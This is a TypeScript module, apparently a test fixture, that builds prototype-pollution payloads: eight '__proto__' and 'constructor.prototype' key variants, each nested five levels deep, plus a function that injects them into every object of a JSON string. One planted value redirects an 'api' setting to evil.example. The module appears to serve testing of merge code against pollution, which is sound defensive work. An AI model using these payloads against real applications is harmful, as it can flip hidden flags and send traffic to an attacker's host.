/** What a polluted prototype would have: names that nothing of ours has, and flags that were never turned on. */
export const POLLUTED = {
  isPolluted: true,
  enableSmsLookup: true,
  kiosk: true,
  adapter: {},
  api: 'https://evil.example',
};

const LOOT = JSON.stringify(POLLUTED);

/** The ways from an object to a prototype, as keys of JSON. */
const WAYS = [
  `"__proto__":${LOOT}`,
  `"constructor":{"prototype":${LOOT}}`,
  `"__proto__":{"__proto__":${LOOT}}`,
  `"prototype":${LOOT},"constructor":${LOOT}`,
  `"\\u005f\\u005fproto\\u005f\\u005f":${LOOT}`,
  `"__proto__":[${LOOT}]`,
  `"toString":${LOOT},"valueOf":null,"hasOwnProperty":1`,
  `"__defineGetter__":${LOOT},"__lookupGetter__":${LOOT},"__proto__":null`,
];

/** How deep each stands. */
const DEPTHS = [1, 2, 3, 4, 5];

export interface PollutionPayload {
  readonly name: string;
  /** JSON of the members of an object, without its braces. */
  readonly members: string;
}

/** Members that somebody puts into JSON so that whoever merges it changes every object there is, by the way they go. */
export const POLLUTION_WAYS: readonly (readonly PollutionPayload[])[] = WAYS.map((way, index) =>
  DEPTHS.map((depth) => ({ name: `way ${index + 1}, ${depth} deep`, members: wrap(way, depth) })),
);

export const POLLUTION_PAYLOADS = POLLUTION_WAYS.flat();

function wrap(members: string, depth: number): string {
  return depth === 1 ? members : `"group":{${wrap(members, depth - 1)}}`;
}

/**
 * JSON with a payload in every object of it, ahead of what it had: whoever reads the last of two equal keys finds what was there.
 */
export function pollute(json: string, { members }: PollutionPayload): string {
  return json.replace(/\{(?=")/g, `{${members},`).replace(/\{\}/g, `{${members}}`);
}
